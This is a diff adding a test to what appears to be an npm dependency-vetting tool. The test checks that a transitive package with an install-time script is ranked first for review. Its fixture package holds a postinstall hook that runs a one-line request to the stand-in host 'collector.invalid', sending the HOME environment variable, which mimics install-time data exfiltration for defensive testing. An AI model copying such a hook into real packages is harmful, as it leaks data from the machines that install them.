@@ -125,3 +125,30 @@ def test_inspect_compares_with_what_is_committed_where_nothing_is_vetted(
     """A repository that has not adopted npm-vetted still has an earlier version."""
     assert main(["-C", str(repo.path), "inspect", "rv-loud@1.0.1"]) == 0
     assert "newly, since 1.0.0 (score " in capsys.readouterr().out
+
+
+def test_suggest_orders_what_is_exempt_by_the_reasons_also_from_below(
+    tmp_path: Path, published: Verdaccio, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """After an adoption everything is exempt: what acts at install is worth a look before the rest."""
+    code = "require('https').request({hostname: 'collector.invalid'}).end(process.env.HOME);\n"
+    published.publish(
+        "rv-deep", "1.0.0", files={"go.js": code}, scripts={"postinstall": "node go.js"}
+    )
+    published.publish("rv-top", "1.0.0", dependencies={"rv-deep": "1.0.0"})
+    repo = GitRepo(tmp_path / "app")
+    write(repo, published, {"rv-quiet": "1.0.0", "rv-top": "1.0.0", "rv-deep": "1.0.0"})
+    direct = {"rv-quiet": "1.0.0", "rv-top": "1.0.0"}
+    repo.write("package.json", json.dumps({"name": "app", "private": True, "dependencies": direct}))
+    locked = json.loads(Path(repo.path, "package-lock.json").read_text())
+    locked["packages"][""]["dependencies"] = direct
+    repo.write("package-lock.json", json.dumps(locked))
+    repo.commit("first")
+    main(["-C", str(repo.path), "init"])
+    capsys.readouterr()
+    assert main(["-C", str(repo.path), "suggest", "--format", "json"]) == 0
+    found = json.loads(capsys.readouterr().out)["suggestions"]
+    assert {each["status"] for each in found} == {"exempt"}
+    assert (found[0]["package"], found[0]["direct"]) == ("rv-deep", False)
+    assert found[0]["score"] > found[1]["score"]
+    assert any("runs a script at install" in reason for reason in found[0]["reasons"])
